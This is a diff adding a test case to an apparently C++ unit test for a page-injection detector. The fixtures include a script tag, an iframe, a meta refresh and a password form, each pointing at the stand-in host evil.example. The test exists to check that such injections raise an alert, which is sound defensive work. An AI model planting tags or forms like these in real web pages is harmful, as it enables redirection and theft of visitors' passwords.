@@ -81,6 +81,7 @@ TEST_F(PageWatch, AnInjectionIsAnAlertAndSaysWhatCarriedIt) {
   for (const Case& c :
        {Case{"script", body("<script src='//evil.example/x.js'></script>"), Sign::script_new},
         Case{"hidden frame", body(hidden_frame), Sign::frame_hidden},
+        Case{"frame", body("<iframe src='//evil.example/x'></iframe>"), Sign::frame_new},
         Case{"refresh", body("<meta http-equiv=refresh content='0;url=//evil.example/'>"),
              Sign::refresh_new},
         Case{"form", body("<form action='//evil.example/'><input type=password></form>"),
